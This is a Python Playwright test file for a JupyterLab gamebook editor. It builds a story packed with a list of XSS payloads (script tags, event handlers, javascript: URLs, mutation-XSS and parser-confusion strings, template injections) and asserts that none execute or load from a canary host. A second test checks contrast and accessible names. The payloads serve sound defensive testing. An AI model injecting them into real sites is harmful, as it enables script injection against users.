"""Stories from strangers: nothing of them runs, nothing is loaded for them, in any view. And every view can be read by all."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

import gamebook_lab as gb
from tests.browser.lab import Lab
from tests.browser.test_studio_in_the_lab import select, when_open

DATA = Path(__file__).resolve().parents[2] / "data"
CANARY = "canary.invalid"
HIT = "window.hit=(window.hit||0)+1"
ATTACKS = (
    f"<script>{HIT}</script>",
    f"<script src=//{CANARY}/a.js></script>",
    f"<img src=x onerror='{HIT}'>",
    f"<img src='http://{CANARY}/b.png' srcset='http://{CANARY}/c.png 2x'>",
    f"<svg onload='{HIT}'><use href='http://{CANARY}/d.svg#x'/></svg>",
    f"<svg><style>@import url(//{CANARY}/e.css);</style><animate onbegin='{HIT}' attributeName=x dur=1s>",
    f"<a href='javascript:{HIT}' autofocus onfocus='{HIT}' tabindex=0>go</a>",
    f"<iframe src='javascript:{HIT}'></iframe><iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    f"<object data='http://{CANARY}/f.swf'></object><embed src='//{CANARY}/g'>",
    f"<meta http-equiv=refresh content='0;url=http://{CANARY}/h'>",
    f"<link rel=stylesheet href=//{CANARY}/i.css><base href=//{CANARY}/>",
    f"<div style='background:url(//{CANARY}/j.png)'>x</div><style>*{{background:url(//{CANARY}/k.png)}}</style>",
    f"<video autoplay poster=//{CANARY}/l.png onloadstart='{HIT}'><source src=//{CANARY}/m.mp4></video>",
    f"<details open ontoggle='{HIT}'><summary>x</summary></details>",
    f"<input autofocus onfocus='{HIT}'><form action=javascript:{HIT}><button>x</button></form>",
    f"<body onload='{HIT}'><marquee onstart='{HIT}'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={HIT}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<template><script>{HIT}</script></template><x onclick='{HIT}'>x</x>",
    f"<a href='data:text/html,<script>opener.hit=1</script>' ping='//{CANARY}/n'>x</a>",
    f"']]\"><img src=x onerror={HIT}><!--",
    f"${{{HIT}}} {{{{{HIT}}}}} <%= {HIT} %>",
    f"&lt;img src=x onerror={HIT}&gt; \u202e\u2028",
)


def hostile_story() -> str:
    """Every attack as a name, a tag, a text, a label, a target, a value, and code of the story's."""
    data = {"ifid": "7A3B2C1D-0000-4000-8000-000000000001", "format": "SugarCube", "start": "Start", "tag-colors": {}}
    parts = [
        f":: StoryTitle\n{ATTACKS[2]}\n",
        f":: StoryData\n{json.dumps(data)}\n",
        f":: Code [script]\n{HIT};\n",
        f":: Looks [stylesheet]\n@import url(//{CANARY}/o.css);\n",
    ]
    names = [
        attack.replace("[", "(").replace("]", ")").replace("|", "/").replace("->", "-").replace("<-", "-")
        for attack in ATTACKS
    ]
    links = "\n".join(f"[[Go {number} {name}|{name}]]" for number, name in enumerate(names))
    parts.append(f":: Start\nHere.\n{links}\n")
    for number, (attack, name) in enumerate(zip(ATTACKS, names, strict=True)):
        tag = "".join(name.split()).replace("\\", "")[:60]
        escaped = name.replace("\\", "\\\\").replace("{", "\\{")
        parts.append(
            f':: {escaped} [{tag}]\n<<set $it to {json.dumps(name)}>>\n{attack}\n<<print $it>> <html>{attack}</html>\n<<link `"{number}"`>><<script>>{HIT}<</script>><</link>>\n[[{name}->missing {name}]] [[Start]]\n'
        )
    return "\n".join(parts)


def watched(page: Page) -> list[str]:
    """Notes every request for what only a story asks for, and every dialog and window that opens."""
    seen: list[str] = []
    page.on("request", lambda request: CANARY in request.url and seen.append(request.url))
    page.on("dialog", lambda dialog: (seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.context.on("page", lambda other: seen.append(f"window {other.url}"))
    return seen


def test_hostile_story__nothing_runs_and_nothing_loads_in_any_view(
    open_lab: Callable[..., Lab], tmp_path: Path
) -> None:
    story = tmp_path / "hostile.twee"
    story.write_text(hostile_story(), encoding="utf-8")
    lab = open_lab(story)
    page = lab.page
    seen = watched(page)
    when_open(page)
    expect(page.locator(".gb-problems")).to_contain_text("missing")
    canvas = page.locator(".gb-map canvas").first
    box = canvas.bounding_box()
    assert box is not None
    for step in range(12):  # tips beside the pointer
        page.mouse.move(box["x"] + box["width"] * (step + 1) / 14, box["y"] + box["height"] / 2)
    canvas.focus()
    for key in ("g", "m", "Control+a", "Escape"):
        page.keyboard.press(key)
    select(page, "Start")
    page.get_by_label("Text of the passage").click()
    page.keyboard.press("Control+End")
    page.keyboard.press("Shift+F12")
    page.keyboard.press("Escape")
    for tab in ("Table", "Variables", "Words", "Play"):
        page.get_by_role("tab", name=tab, exact=True).click()
        expect(page.get_by_role("tabpanel", name=tab)).to_be_visible()
    words = page.locator(".gb-play-words")
    expect(words).to_contain_text("Here.")
    for number in range(1, 6):
        words.locator("[data-key]").nth(number).click()
        back = page.get_by_role("button", name="Step back")
        back.click()
        expect(back).to_be_disabled()  # also a question stands beside "Here."
        expect(words).to_contain_text("Here.")
    page.get_by_role("tab", name="Variables", exact=True).click()
    page.locator(".gb-pane-variables .gb-fact-name").first.click()
    expect(page.locator(".gb-pane-variables .gb-uses header")).to_contain_text("$it")
    page.keyboard.press("Control+Shift+f")
    page.get_by_label("Find", exact=True).fill("img")
    expect(page.locator(".gb-replace-row").first).to_be_visible()
    page.get_by_label("Find a passage by name or text").fill("script")
    expect(page.locator(".gb-hit").first).to_be_visible()

    gb.proofing_copy(gb.read_story(story)).save(tmp_path / "proof.html")
    printed = page.context.browser.new_page()  # type: ignore[union-attr]
    seen_in_print = watched(printed)
    printed.goto(f"file://{tmp_path}/proof.html")
    expect(printed.locator("article").nth(len(ATTACKS))).to_be_visible()
    for each in (page, printed):
        assert each.evaluate("window.hit") is None
        assert each.locator("iframe[srcdoc], object, embed, base, meta[http-equiv=refresh]").count() == 0
    assert not seen
    assert not seen_in_print
    assert not lab.failures


UNREADABLE = """() => {
  const canvas = document.createElement('canvas');
  canvas.width = canvas.height = 1;
  const ctx = canvas.getContext('2d', { willReadFrequently: true });
  const rgba = (color) => {
    ctx.clearRect(0, 0, 1, 1);
    ctx.fillStyle = color;
    ctx.fillRect(0, 0, 1, 1);
    const [r, g, b, a] = ctx.getImageData(0, 0, 1, 1).data;
    return [r, g, b, a / 255];
  };
  const over = ([r, g, b, a], [R, G, B]) => [r * a + R * (1 - a), g * a + G * (1 - a), b * a + B * (1 - a), 1];
  const behind = (element) => {
    const layers = [];
    for (let at = element; at; at = at.parentElement) {
      const color = rgba(getComputedStyle(at).backgroundColor);
      if (color[3]) layers.push(color);
      if (color[3] === 1) break;
    }
    return layers.reverse().reduce((below, layer) => over(layer, below), [255, 255, 255, 1]);
  };
  const light = (color) => {
    const [r, g, b] = color.map((value) => ((value /= 255) <= 0.04045 ? value / 12.92 : ((value + 0.055) / 1.055) ** 2.4));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const found = new Set();
  for (const element of document.querySelectorAll('.gb-studio *')) {
    const text = [...element.childNodes].filter((node) => node.nodeType === 3).map((node) => node.textContent.trim()).join(' ').trim();
    const shown = text || (element.matches('input, select, textarea') && element.value);
    if (!shown || !element.checkVisibility({ visibilityProperty: true, opacityProperty: true })) continue;
    if (element.closest(':disabled, [aria-hidden=true], svg, .gb-visually-hidden') || !element.getClientRects().length) continue;
    const style = getComputedStyle(element);
    const back = behind(element);
    const [a, b] = [light(over(rgba(style.color), back)), light(back)];
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    const size = parseFloat(style.fontSize);
    const least = size >= 24 || (size >= 18.66 && Number(style.fontWeight) >= 700) ? 3 : 4.5;
    if (ratio < least - 0.02) found.add(`${element.className || element.tagName}: ${ratio.toFixed(2)} "${String(shown).slice(0, 30)}"`);
  }
  return [...found];
}"""
NAMELESS = """() => [...document.querySelectorAll('.gb-studio :is(button, input, select, textarea, canvas, summary, [role=tab], [role=separator]:not(.slick-resizable-handle), [role=region], [role=dialog])')]
  .filter((element) => element.checkVisibility() && !element.closest('[aria-hidden=true]'))
  .filter((element) => !(element.getAttribute('aria-label') || element.getAttribute('aria-labelledby') || element.labels?.length || element.title || element.textContent.trim()))
  .map((element) => element.outerHTML.slice(0, 120))"""


@pytest.mark.parametrize("theme", ["JupyterLab Light", "JupyterLab Dark"])
def test_every_view__has_names_and_contrast(open_lab: Callable[..., Lab], theme: str) -> None:
    page = open_lab(DATA / "small" / "problems.twee", theme=theme).page
    when_open(page)
    expect(page.locator("body")).to_have_attribute("data-jp-theme-name", theme)
    expect(page.locator(".gb-problems")).to_contain_text("The Seventh Door")
    bad = {}
    for tab in ("Table", "Variables", "Words", "Play", "Map"):
        page.get_by_role("tab", name=tab, exact=True).click()
        expect(page.get_by_role("tabpanel", name=tab)).to_be_visible()
        if tab == "Play":
            expect(page.locator(".gb-play-words")).to_be_visible()
        bad[tab] = [*page.evaluate(UNREADABLE), *page.evaluate(NAMELESS)]
    page.get_by_role("tab", name="Map", exact=True).focus()
    page.keyboard.press("?")
    bad["help"] = [*page.evaluate(UNREADABLE), *page.evaluate(NAMELESS)]
    assert not {view: found for view, found in bad.items() if found}
